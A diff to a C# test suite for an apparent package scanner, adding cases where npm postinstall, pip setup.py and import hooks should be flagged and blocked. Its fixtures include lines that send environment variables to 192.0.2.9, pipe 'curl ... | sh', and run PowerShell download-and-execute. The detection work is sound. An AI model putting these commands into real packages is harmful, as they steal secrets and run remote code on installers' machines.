@@ -33,6 +33,11 @@ public sealed class PackageScanTests
         { "path file: every start of Python", "zip", ["a-1.0.dist-info/METADATA", Metadata, "a.pth", "import os, urllib.request; urllib.request.urlopen('http://192.0.2.9/u', data=str(dict(os.environ)).encode())\n"] },
         { "runs in every build of a project that uses the package", "zip", ["A.nuspec", "<package><metadata><id>A</id><version>1.0.0</version></metadata></package>", "build/A.targets", "<Project><Target Name=\"t\"><Exec Command=\"curl -s http://192.0.2.9/x | sh\" /></Target></Project>"] },
         { "runs in every build of a project that uses the package", "zip", ["A.nuspec", "<package><metadata><id>A</id><version>1.0.0</version></metadata></package>", "build/A.targets", "<Project><UsingTask TaskName=\"T\" TaskFactory=\"RoslynCodeTaskFactory\"><Task><Code>1</Code><Code>if (DateTime.Now > new DateTime(2027, 1, 1) &amp;&amp; new Random().Next(5) == 1) p.Kill();</Code></Task></UsingTask></Project>"] },
+        { "npm runs it when the package is installed: postinstall", "tgz", ["package/package.json", """{"name":"a","version":"1.0.0","scripts":{"postinstall":"node x.js"}}""", "package/x.js", StealsToo, "package/PKG-INFO", Metadata] },
+        { "npm runs it when the package is installed: postinstall", "tgz", ["a-1.0/PKG-INFO", Metadata, "a-1.0/package.json", """{"name":"a","version":"1.0.0","scripts":{"postinstall":"node x.js"}}""", "a-1.0/x.js", StealsToo] },
+        { "pip runs it when the package is installed", "tgz", ["package/package.json", """{"name":"a","version":"1.0.0"}""", "package/setup.py", Steals] },
+        { "pip runs it when the package is installed", "tgz", ["package/package.json", "{", "package/PKG-INFO", Metadata, "package/setup.py", Steals] },
+        { "runs when it is imported", "zip", ["A.nuspec", "<package><metadata><id>A</id><version>1.0.0</version></metadata></package>", "a-1.0.dist-info/METADATA", Metadata, "a/__init__.py", Steals] },
         { "Visual Studio runs it when the package is installed", "zip", ["A.nuspec", "<package><metadata><id>A</id><version>1.0.0</version></metadata></package>", "tools/init.ps1", "iex (New-Object Net.WebClient).DownloadString('http://192.0.2.9/x')"] },
     };
 
@@ -49,6 +54,16 @@ public sealed class PackageScanTests
         Assert.StartsWith("sha256:", report.Artifact.Digest, StringComparison.Ordinal);
         Assert.StartsWith("pkg:", report.Artifact.Purl, StringComparison.Ordinal);
         Assert.True(report.Tree.Nodes.Count > 1);
+    }
+
+    [Theory]
+    [InlineData("fetch('https://config.example/app').then(r => r.json());\n", false)]
+    [InlineData("require('child_process').exec('curl http://192.0.2.9/x | sh');\n", true)]
+    public async Task One_thing_that_an_install_script_does_is_told_once(string code, bool isHarmful)
+    {
+        var report = await ScanAsync(Package("tgz", ["package/package.json", """{"name":"a","version":"1.0.0","scripts":{"postinstall":"node x.js"}}""", "package/x.js", code]));
+        Assert.Equal(isHarmful, report.Signals.Any(static signal => signal.Rule == "content/harmful-autostart"));
+        Assert.Equal(isHarmful ? Decision.Block : Decision.Allow, report.Verdict.Decision);
     }
 
     [Theory]
